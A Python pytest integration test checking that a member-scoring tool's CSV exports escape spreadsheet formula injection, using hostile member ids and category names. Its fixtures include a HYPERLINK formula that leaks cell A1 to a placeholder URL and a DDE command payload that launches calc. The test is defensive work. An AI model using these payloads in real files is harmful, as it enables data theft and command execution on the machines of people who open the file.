"""Hostile member ids and category names, end to end: no CSV the product writes carries a formula.

The session's synthetic shop is rewritten so that every member id and category name begins with a
character a spreadsheet runs (``=HYPERLINK(...)``, ``+1``, ``-2+3``, ``@SUM(A1)``, ...), loaded
through the CLI, and exported as a rejects file, a score file (``memberscore score``), target lists
(``memberscore targets``) and the API's ``POST /targets?format=csv`` (the service called in
process, on the session's trained churn champion: no model is trained here). Every cell that begins
with a formula character must be a number written by a numeric column; ids come back after one
apostrophe is stripped; numeric columns equal the Parquet output of the same command.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from typer.testing import CliRunner, Result

from features.spreadsheet import FORMULA_STARTS

EXACT_IDS = ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\ry"]
CATEGORIES = {"household": "=household", "grocery": "+grocery", "dairy": "-dairy", "produce": "@produce",
              "bakery": "-bakery"}  # same slugs, so the champion's share_ features are still there
REJECTED = [['=cmd|" /C calc"!A0', "garbage", "5", "o-x", "=dairy"], ["-bad", "2024-01-01", "@x", "o-y", "+z"]]
runner = CliRunner()


def run(*args: str | Path) -> Result:
    from cli.main import app

    result = runner.invoke(app, [str(arg) for arg in args])
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def hostile_csv(synthetic: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """The synthetic lines with hostile ids and categories (plus two rejected lines); id -> id as loaded."""
    transactions = synthetic[0].astype({"member_id": str, "category": str})
    members = sorted(transactions["member_id"].unique())
    renamed = {m: EXACT_IDS[i] if i < len(EXACT_IDS) else "=+-@"[i % 4] + m for i, m in enumerate(members)}
    hostile = transactions.assign(member_id=transactions["member_id"].map(renamed),
                                  category=transactions["category"].map(CATEGORIES))
    path = tmp_path / "hostile.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:  # written raw: the attack as it arrives
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(hostile.columns)
        writer.writerows(hostile.astype(str).itertuples(index=False, name=None))
        writer.writerows(REJECTED)
    return path, {hostile_id: hostile_id.strip() for hostile_id in renamed.values()}


def csv_cells(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return header, rows


def assert_no_formula(text: str) -> tuple[list[str], list[list[str]]]:
    """Every cell (header included) that begins with a formula character is a number."""
    header, rows = csv_cells(text)
    for row in [header, *rows]:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # raises for text: "-2+3" written bare would run as a formula
    return header, rows


def column(header: list[str], rows: list[list[str]], name: str) -> list[str]:
    return [row[header.index(name)] for row in rows]


def unescaped(cells: list[str]) -> list[str]:
    """The text before escaping: what begins with a formula character was written with one apostrophe."""
    back = [cell[1:] if cell.startswith("'") else cell for cell in cells]
    assert all((cell != text) == text.startswith(("=", "+", "-", "@", "\t", "\r")) for cell, text in zip(cells, back))
    return back


@pytest.mark.slow
@pytest.mark.integration
def test_hostile_text_never_reaches_a_csv_as_a_formula(use_trained: object, hostile_csv: tuple[Path, dict[str, str]],
                                                       tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from serving.schemas import TargetsRequest

    source, loaded_ids = hostile_csv
    monkeypatch.setenv("MEMBERSCORE_SNAPSHOT_DIR", str(tmp_path / "snapshots"))  # not the session's store
    as_of = "2024-06-24"

    # rejects: the two hostile lines, cells and raw text escaped
    run("score", "--transactions", source, "--as-of", as_of, "--out", tmp_path / "s.csv", "--rejects", tmp_path / "r.csv")
    header, rows = assert_no_formula((tmp_path / "r.csv").read_text(encoding="utf-8"))
    assert unescaped(column(header, rows, "member_id"))[-2:] == [line[0] for line in REJECTED]  # (and duplicates)
    raw_lines = [cell.removeprefix("'") for cell in column(header, rows, "_raw")]  # a raw line may begin with a quote
    assert raw_lines[-2:] == ['"=cmd|"" /C calc""!A0",garbage,5,o-x,=dairy', "-bad,2024-01-01,@x,o-y,+z"]

    # score file: ids round-trip, numbers equal the Parquet output of the same command
    run("score", "--transactions", source, "--as-of", as_of, "--out", tmp_path / "s.parquet")
    header, rows = assert_no_formula((tmp_path / "s.csv").read_text(encoding="utf-8"))
    expected = pd.read_parquet(tmp_path / "s.parquet")
    assert unescaped(column(header, rows, "member_id")) == expected["member_id"].astype(str).tolist()
    assert set(expected["member_id"]) <= set(loaded_ids.values()) and {"+1", "-2+3", "x", "y"} <= set(expected["member_id"])
    written = pd.read_csv(tmp_path / "s.csv", float_precision="round_trip", keep_default_na=True)
    numeric = expected.select_dtypes("number").columns
    assert len(numeric) >= 5
    pd.testing.assert_frame_equal(written[numeric], expected[numeric], check_dtype=False)

    # target lists, CLI and API, from a snapshot of the hostile shop
    run("snapshot", "--transactions", source, "--rejects", tmp_path / "r2.csv")
    offers: list[str] = []
    for campaign in ("upsell", "winback"):
        run("targets", "--campaign", campaign, "--limit", "10000", "--out", tmp_path / f"{campaign}.csv")
        header, rows = assert_no_formula((tmp_path / f"{campaign}.csv").read_text(encoding="utf-8"))
        assert rows, campaign
        assert set(unescaped(column(header, rows, "member_id"))) <= set(loaded_ids.values())
        offers += [cell for cell in column(header, rows, "offer_category") if cell]
    assert offers and {offer[1:] for offer in offers} <= set(CATEGORIES.values())  # hostile names were offered, escaped

    from serving.service import MemberScoring

    service = MemberScoring()
    response = service.targets(TargetsRequest(campaign="upsell", limit=10000), format="csv")
    served = streamed_text(response)  # a StreamingResponse since issue 15 (whole lists): read its chunks
    assert served == (tmp_path / "upsell.csv").read_bytes().decode("utf-8")  # one writer for CLI and API
    header, rows = assert_no_formula(served)
    assert set(unescaped(column(header, rows, "member_id"))) <= set(loaded_ids.values())


def streamed_text(response: Any) -> str:
    """The whole body of a StreamingResponse, as text."""
    import asyncio

    async def chunks() -> list[str | bytes]:
        return [chunk async for chunk in response.body_iterator]

    return "".join(c.decode("utf-8") if isinstance(c, bytes) else c for c in asyncio.run(chunks()))
